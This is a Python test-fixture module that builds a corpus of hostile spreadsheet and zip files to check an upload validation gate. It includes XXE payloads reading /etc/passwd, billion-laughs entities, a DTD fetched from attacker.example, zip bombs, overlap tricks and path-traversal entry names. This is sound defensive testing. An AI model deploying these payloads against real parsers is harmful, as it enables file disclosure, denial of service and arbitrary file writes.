"""The hostile corpus: ONE table from case name to (builder, the exact set of codes expected).

Builders return the file's bytes, or DIRECTORY for a path that is a folder. Nothing is
committed: every file, bombs included, is generated into tmp_path at test time.
"""

from __future__ import annotations

import io
import random
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from tests.hostile.builders import (
    base_xlsx,
    build_cfb,
    build_zip,
    central_offsets,
    entries_of,
    index_of,
    local_offset,
    mutate_xlsx,
    part_of,
    patch,
    point_entry_at,
    set_crc,
    set_flags,
    set_method,
    set_sizes,
    with_content_type_override,
)

DIRECTORY = b"<directory>"
WB = "xl/workbook.xml"
WB_RELS = "xl/_rels/workbook.xml.rels"
S1 = "xl/worksheets/sheet1.xml"
S2 = "xl/worksheets/sheet2.xml"
CT = "[Content_Types].xml"
SML = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
MiB = 1024 * 1024


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], bytes]
    expect: frozenset[str]


# ----------------------------------------------------------------------------- helpers


def _sub(part: str, pattern: bytes, replacement: bytes) -> bytes:
    data, count = re.subn(pattern, replacement, part_of(part))
    assert count, f"pattern {pattern!r} not found in {part}"
    return data


def _with_doctype(part: str, doctype: bytes) -> bytes:
    return doctype + part_of(part)


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10 if i > 1 else b"&lol;" * 10)
                             for i in range(1, 10))
                  + b"]>")
XXE = b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
SHARED_STRINGS_XXE = XXE + (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
                            b'uniqueCount="1"><si><t>&xxe;</t></si></sst>')


def _xxe_shared_strings() -> bytes:
    types = with_content_type_override(
        "xl/sharedStrings.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml")
    return mutate_xlsx({CT: types}, add=[("xl/sharedStrings.xml", SHARED_STRINGS_XXE)])


def _utf16_sheet(doctype: bool) -> bytes:
    text = part_of(S1).decode("utf-8")
    prefix = '<?xml version="1.0" encoding="UTF-16"?>'
    if doctype:
        prefix += '<!DOCTYPE worksheet [<!ENTITY e "x">]>'
    return mutate_xlsx({S1: (prefix + text).encode("utf-16")})


def _xlsm_with_vba() -> bytes:
    vba = build_cfb(["PROJECT", "PROJECTwm", "dir"])
    types = part_of(CT).replace(b"spreadsheetml.sheet.main+xml", b"dummy")
    types = types.replace(b"application/vnd.openxmlformats-officedocument.dummy",
                          b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    types = types.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                          b"</Types>")
    rels = part_of(WB_RELS).replace(b"</Relationships>", b'<Relationship Id="rId9" Type="http://schemas.microsoft.com/'
                                    b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    return mutate_xlsx({CT: types, WB_RELS: rels}, add=[("xl/vbaProject.bin", vba)])


def _xlm_macrosheet() -> bytes:
    workbook = part_of(WB).replace(b"</sheets>", b'<sheet name="Macro1" sheetId="3" r:id="rId9"/></sheets>')
    rels = part_of(WB_RELS).replace(b"</Relationships>", b'<Relationship Id="rId9" Type="http://schemas.microsoft.com/'
                                    b'office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>'
                                    b"</Relationships>")
    sheet = b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData/></xm:macrosheet>'
    return mutate_xlsx({WB: workbook, WB_RELS: rels}, add=[("xl/macrosheets/sheet1.xml", sheet)])


def _xltx() -> bytes:
    types = part_of(CT).replace(b"spreadsheetml.sheet.main+xml", b"spreadsheetml.template.main+xml")
    return mutate_xlsx({CT: types})


def _strict() -> bytes:
    return mutate_xlsx({WB: part_of(WB).replace(SML, b'xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"')})


def _ods(kind: str = "spreadsheet") -> bytes:
    return build_zip([
        ("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode(), zipfile.ZIP_STORED),
        ("content.xml", b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
                        b'opendocument:xmlns:office:1.0"/>'),
        ("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                                  b'opendocument:xmlns:manifest:1.0"/>'),
    ])


def _opc(main_part: str, main_type: str, main_body: bytes) -> bytes:
    types = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             b'<Default Extension="xml" ContentType="application/xml"/>'
             + f'<Override PartName="/{main_part}" ContentType="{main_type}"/></Types>'.encode())
    rels = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            + f'relationships/officeDocument" Target="{main_part}"/></Relationships>'.encode())
    return build_zip([(CT, types), ("_rels/.rels", rels), (main_part, main_body)])


def _xlsb() -> bytes:
    return _opc("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
                b"\x83\x01\x00\x80\x01\x00\x00\x00")


def _docx() -> bytes:
    return _opc("word/document.xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>')


def _add_parts(parts: list[tuple[str, bytes]]) -> bytes:
    return build_zip(entries_of(base_xlsx()) + parts)


def _with_method(method: int) -> bytes:
    return build_zip([(n, d, method if n == S1 else zipfile.ZIP_DEFLATED) for n, d in entries_of(base_xlsx())])


def _far_cell(ref: bytes, row: bytes) -> bytes:
    return mutate_xlsx({S1: part_of(S1).replace(b"</sheetData>", b'<row r="' + row + b'"><c r="' + ref
                                                + b'"><v>1</v></c></row></sheetData>')})


def _dimension(ref: bytes) -> bytes:
    return mutate_xlsx({S1: _sub(S1, rb'<dimension ref="[^"]*"', b'<dimension ref="' + ref + b'"')})


def _sheet1_index(data: bytes) -> int:
    return index_of(data, S1)


def _crc_mismatch() -> bytes:
    data = base_xlsx()
    return set_crc(data, _sheet1_index(data), 0x12345678)


def _deflate_garbage() -> bytes:
    data = base_xlsx()
    start = local_offset(data, _sheet1_index(data)) + 30 + len(S1)
    return data[:start + 10] + bytes([0xFF] * 40) + data[start + 50:]


def _declared_bomb() -> bytes:
    data = base_xlsx()
    return set_sizes(data, _sheet1_index(data), size=0xF0000000)


def _overlap_shared_header() -> bytes:
    data = base_xlsx()
    return point_entry_at(data, 3, local_offset(data, 2))


def _overlap_data() -> bytes:
    data = base_xlsx()
    compressed = zipfile.ZipFile(io.BytesIO(data)).infolist()[0].compress_size
    return set_sizes(data, 0, compressed=compressed + 200, local=False)


def _overlap_central() -> bytes:
    data = base_xlsx()
    last = len(central_offsets(data)) - 1
    compressed = zipfile.ZipFile(io.BytesIO(data)).infolist()[last].compress_size
    return set_sizes(data, last, compressed=compressed + 64, local=False)


def _bad_central_signature() -> bytes:
    data = base_xlsx()
    return patch(data, central_offsets(data)[0], "<4s", b"PK\x09\x09")


def _bad_local_signature() -> bytes:
    data = base_xlsx()
    return patch(data, local_offset(data, 2), "<4s", b"PK\x09\x09")


def _local_name_mismatch() -> bytes:
    data = base_xlsx()
    offset = local_offset(data, 2) + 30
    return patch(data, offset, "<B", ord("Y"))


def _random_bytes() -> bytes:
    return random.Random(7).randbytes(5000).replace(b"PK", b"pk")


# ----------------------------------------------------------------------------- THE table

CASES: list[Case] = [Case(name, build, frozenset(expect)) for name, build, expect in [
    # Controls: must pass (macros are a note, not a reject).
    ("valid_xlsx", base_xlsx, []),
    ("valid_xltx_template", _xltx, []),
    ("xlsm_with_vba_project", _xlsm_with_vba, ["GATE_MACROS_PRESENT"]),
    ("xlsx_holding_vba_bin", lambda: _add_parts([("xl/vbaProject.bin", build_cfb(["PROJECT"]))]),
     ["GATE_MACROS_PRESENT"]),
    ("xlm_macro_sheet", _xlm_macrosheet, ["GATE_MACROS_PRESENT"]),
    # Nothing there.
    ("empty_file", lambda: b"", ["GATE_EMPTY"]),
    ("directory_not_file", lambda: DIRECTORY, ["GATE_FILE_UNREADABLE"]),
    # OLE2 compound files.
    ("encrypted_ooxml", lambda: build_cfb(["\x06DataSpaces", "EncryptionInfo", "EncryptedPackage"]),
     ["GATE_ENCRYPTED"]),
    ("legacy_xls_biff8", lambda: build_cfb(["Workbook", "\x05SummaryInformation"]), ["GATE_LEGACY_XLS"]),
    ("legacy_et_book_stream", lambda: build_cfb(["Book"]), ["GATE_LEGACY_XLS"]),
    ("legacy_xls_cfb_v4", lambda: build_cfb(["Workbook"], version=4), ["GATE_LEGACY_XLS"]),
    ("word_97_doc", lambda: build_cfb(["WordDocument", "1Table"]), ["GATE_NOT_WORKBOOK"]),
    ("ole_directory_chain_loop", lambda: build_cfb(["Workbook"], loop_directory=True), ["GATE_OLE_CORRUPT"]),
    ("ole_directory_tree_loop", lambda: build_cfb(["Workbook", "Other"], loop_tree=True), ["GATE_OLE_CORRUPT"]),
    ("ole_truncated_after_header", lambda: build_cfb(["Workbook"])[:512], ["GATE_OLE_CORRUPT"]),
    # Not a workbook at all.
    ("html_renamed", lambda: "<html><head><meta charset='utf-8'></head><body><table><tr><td>项目</td></tr>"
                             "</table></body></html>".encode(), ["GATE_NOT_WORKBOOK"]),
    ("excel_web_page", lambda: b'<html xmlns:o="urn:schemas-microsoft-com:office:office" '
                               b'xmlns:x="urn:schemas-microsoft-com:office:excel"><body></body></html>',
     ["GATE_NOT_WORKBOOK"]),
    ("mhtml_single_file_page", lambda: b"MIME-Version: 1.0\r\nX-Document-Type: Workbook\r\nContent-Type: "
                                       b"multipart/related; boundary=\"----=_NextPart\"\r\n\r\n",
     ["GATE_NOT_WORKBOOK"]),
    ("csv_gbk_renamed", lambda: "项目名称,年度指标值,实际完成值\n测试项目,≥95%,96%\n".encode("gbk"),
     ["GATE_NOT_WORKBOOK"]),
    ("csv_utf8_bom", lambda: "\ufeff项目名称,得分\n测试,90\n".encode("utf-8"), ["GATE_NOT_WORKBOOK"]),
    ("plain_text", lambda: "这是一份说明，不是表格。".encode("utf-8"), ["GATE_NOT_WORKBOOK"]),
    ("xml_spreadsheet_2003", lambda: b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
                                     b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
     ["GATE_NOT_WORKBOOK"]),
    ("rtf_document", lambda: b"{\\rtf1\\ansi\\deff0 hello}", ["GATE_NOT_WORKBOOK"]),
    ("pdf_bytes", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
     ["GATE_NOT_WORKBOOK"]),
    ("png_image", lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), ["GATE_NOT_WORKBOOK"]),
    ("all_zero_bytes", lambda: bytes(4096), ["GATE_NOT_WORKBOOK"]),
    ("random_binary", _random_bytes, ["GATE_NOT_WORKBOOK"]),
    ("ods_spreadsheet", _ods, ["GATE_ODS"]),
    ("odt_text_document", lambda: _ods("text"), ["GATE_NOT_WORKBOOK"]),
    ("xlsb_binary_workbook", _xlsb, ["GATE_XLSB"]),
    ("docx_document", _docx, ["GATE_NOT_WORKBOOK"]),
    ("plain_zip_archive", lambda: build_zip([("readme.txt", b"hello"), ("data.csv", b"a,b\n1,2\n")]),
     ["GATE_NOT_WORKBOOK"]),
    ("empty_zip_archive", lambda: build_zip([]), ["GATE_NOT_WORKBOOK"]),
    # Damaged zips.
    ("truncated_zip", lambda: base_xlsx()[: len(base_xlsx()) // 2], ["GATE_ZIP_CORRUPT"]),
    ("bad_central_directory_signature", _bad_central_signature, ["GATE_ZIP_CORRUPT"]),
    ("trailing_junk_after_end_record", lambda: base_xlsx() + b"junk" * 10, ["GATE_ZIP_CORRUPT"]),
    ("two_zips_concatenated", lambda: base_xlsx() + base_xlsx(), ["GATE_ZIP_CORRUPT"]),
    ("local_header_signature_broken", _bad_local_signature, ["GATE_ZIP_CORRUPT"]),
    ("local_name_differs_from_central", _local_name_mismatch, ["GATE_ZIP_CORRUPT"]),
    ("sheet_crc_mismatch", _crc_mismatch, ["GATE_ZIP_CORRUPT"]),
    ("sheet_deflate_garbage", _deflate_garbage, ["GATE_ZIP_CORRUPT"]),
    # Bombs.
    ("bomb_declared_4gb", _declared_bomb, ["GATE_ZIP_BOMB"]),
    ("bomb_real_ratio_2mib_zeros", lambda: _add_parts([("xl/media/image1.png", bytes(2 * MiB))]),
     ["GATE_ZIP_BOMB"]),
    ("bomb_many_small_parts_60mib", lambda: _add_parts([(f"xl/media/p{i}.bin", bytes(200 * 1024))
                                                        for i in range(300)]), ["GATE_ZIP_BOMB"]),
    # Compression methods and encryption.
    ("method_bzip2", lambda: _with_method(zipfile.ZIP_BZIP2), ["GATE_ZIP_METHOD"]),
    ("method_lzma", lambda: _with_method(zipfile.ZIP_LZMA), ["GATE_ZIP_METHOD"]),
    ("method_deflate64_declared", lambda: set_method(base_xlsx(), 3, 9), ["GATE_ZIP_METHOD"]),
    ("zip_entry_encrypted_flag", lambda: set_flags(base_xlsx(), 3, 0x1), ["GATE_ZIP_ENCRYPTED"]),
    ("zip_entry_aes_method", lambda: set_method(base_xlsx(), 3, 99), ["GATE_ZIP_ENCRYPTED"]),
    # Names.
    ("duplicate_workbook_entry", lambda: _add_parts([(WB, part_of(WB))]), ["GATE_ZIP_DUPLICATE"]),
    ("duplicate_differing_in_case", lambda: _add_parts([("XL/Workbook.xml", part_of(WB))]),
     ["GATE_ZIP_DUPLICATE"]),
    ("absolute_path_entry", lambda: _add_parts([("/etc/cron.d/evil", b"x")]), ["GATE_ZIP_PATH"]),
    ("dotdot_path_entry", lambda: _add_parts([("../../evil.sh", b"x")]), ["GATE_ZIP_PATH"]),
    ("backslash_path_entry", lambda: _add_parts([("xl\\worksheets\\evil.xml", b"<x/>")]), ["GATE_ZIP_PATH"]),
    ("drive_letter_entry", lambda: _add_parts([("C:/Windows/evil.dll", b"x")]), ["GATE_ZIP_PATH"]),
    ("control_char_entry", lambda: _add_parts([("xl/evil\x01.xml", b"<x/>")]), ["GATE_ZIP_PATH"]),
    # Overlaps (CVE-2024-0450 style) and counts.
    ("overlap_two_entries_one_header", _overlap_shared_header, ["GATE_ZIP_OVERLAP"]),
    ("overlap_data_into_next_header", _overlap_data, ["GATE_ZIP_OVERLAP"]),
    ("overlap_into_central_directory", _overlap_central, ["GATE_ZIP_OVERLAP"]),
    ("too_many_parts", lambda: _add_parts([(f"xl/x/{i}.txt", b"") for i in range(2001)]),
     ["GATE_ZIP_TOO_MANY_PARTS"]),
    # Unsafe XML.
    ("billion_laughs_workbook", lambda: mutate_xlsx({WB: BILLION_LAUGHS + part_of(WB)}), ["GATE_XML_UNSAFE"]),
    ("xxe_shared_strings", _xxe_shared_strings, ["GATE_XML_UNSAFE"]),
    ("external_dtd_styles", lambda: mutate_xlsx({"xl/styles.xml": _with_doctype(
        "xl/styles.xml", b'<!DOCTYPE styleSheet SYSTEM "http://attacker.example/x.dtd">')}), ["GATE_XML_UNSAFE"]),
    ("dtd_content_types", lambda: mutate_xlsx({CT: _with_doctype(CT, b"<!DOCTYPE Types []>")}),
     ["GATE_XML_UNSAFE"]),
    ("dtd_package_rels", lambda: mutate_xlsx({"_rels/.rels": _with_doctype("_rels/.rels", XXE)}),
     ["GATE_XML_UNSAFE"]),
    ("dtd_core_properties", lambda: mutate_xlsx({"docProps/core.xml": _with_doctype("docProps/core.xml", XXE)}),
     ["GATE_XML_UNSAFE"]),
    ("dtd_in_sheet", lambda: mutate_xlsx({S1: _with_doctype(S1, BILLION_LAUGHS)}), ["GATE_XML_UNSAFE"]),
    ("dtd_in_utf16_sheet", lambda: _utf16_sheet(doctype=True), ["GATE_XML_UNSAFE"]),
    # Sheets too big for a reader.
    ("dimension_whole_sheet", lambda: _dimension(b"A1:XFD1048576"), ["GATE_DIMENSION_HUGE"]),
    ("dimension_ten_million_cells", lambda: _dimension(b"A1:ALL10000"), ["GATE_DIMENSION_HUGE"]),
    ("far_cell_xfd1048576", lambda: _far_cell(b"XFD1048576", b"1048576"), ["GATE_DIMENSION_HUGE"]),
    ("cell_beyond_last_column", lambda: _far_cell(b"ZZZZ30", b"30"), ["GATE_DIMENSION_HUGE"]),
    ("far_cell_in_early_row", lambda: _far_cell(b"B999999", b"31"), ["GATE_DIMENSION_HUGE"]),
    ("far_cell_attribute_order", lambda: mutate_xlsx({S1: part_of(S1).replace(
        b"</sheetData>", b'<row r="99"><c t="n" r="XFD1048576"><v>1</v></c></row></sheetData>')}),
     ["GATE_DIMENSION_HUGE"]),
    ("far_cell_character_reference", lambda: _far_cell(b"&#88;FD1048576", b"1048576"), ["GATE_DIMENSION_HUGE"]),
    ("far_cell_prefixed_element", lambda: mutate_xlsx({S1: part_of(S1).replace(
        b"</sheetData>", b'<row r="99"><x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                         b'r="XFD1048576"><x:v>1</x:v></x:c></row></sheetData>')}), ["GATE_DIMENSION_HUGE"]),
    ("cell_reference_unreadable", lambda: _far_cell(b"A99999999999", b"40"), ["GATE_DIMENSION_HUGE"]),
    ("far_style_only_cell_is_harmless", lambda: mutate_xlsx({S1: part_of(S1).replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" s="0"/><c r="XFC1048576" s="0"></c></row></sheetData>')}),
     []),
    # Structure.
    ("sheet_part_missing", lambda: mutate_xlsx({S2: None}), ["GATE_STRUCTURE"]),
    ("content_types_missing", lambda: mutate_xlsx({CT: None}), ["GATE_STRUCTURE"]),
    ("workbook_part_missing", lambda: mutate_xlsx({WB: None}), ["GATE_STRUCTURE"]),
    ("workbook_rels_missing", lambda: mutate_xlsx({WB_RELS: None}), ["GATE_STRUCTURE"]),
    ("workbook_malformed_xml", lambda: mutate_xlsx({WB: b"<workbook><sheets>"}), ["GATE_STRUCTURE"]),
    ("workbook_without_sheets", lambda: mutate_xlsx({WB: _sub(WB, rb"<sheets>.*</sheets>", b"<sheets/>")}),
     ["GATE_STRUCTURE"]),
    ("sheet_rel_escapes_package", lambda: mutate_xlsx({WB_RELS: part_of(WB_RELS).replace(
        b"/xl/worksheets/sheet2.xml", b"../../../../etc/passwd")}), ["GATE_STRUCTURE"]),
    ("duplicate_sheet_names", lambda: mutate_xlsx({WB: part_of(WB).replace(
        b'name="_meta"', 'name="绩效自评表"'.encode())}), ["GATE_STRUCTURE"]),
    ("utf16_sheet_without_dtd", lambda: _utf16_sheet(doctype=False), ["GATE_STRUCTURE"]),
    ("strict_ooxml_workbook", _strict, ["GATE_OOXML_STRICT"]),
]]


EXTENSIONS = [".xlsx", ".xlsm", ".xls", ".et", ".ods", ".csv", ".pdf", ".zip", ".bin", ".txt", ""]


def write_corpus(folder: Path, seed: int) -> dict[str, str]:
    """Every case into `folder` under a random name and extension (the gate must not care): name → path."""
    rng = random.Random(seed)
    paths: dict[str, str] = {}
    for case in CASES:
        name = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(12))
        path = folder / (name + rng.choice(EXTENSIONS))
        data = case.build()
        if data == DIRECTORY:
            path.mkdir()
        else:
            path.write_bytes(data)
        paths[case.name] = str(path)
    return paths
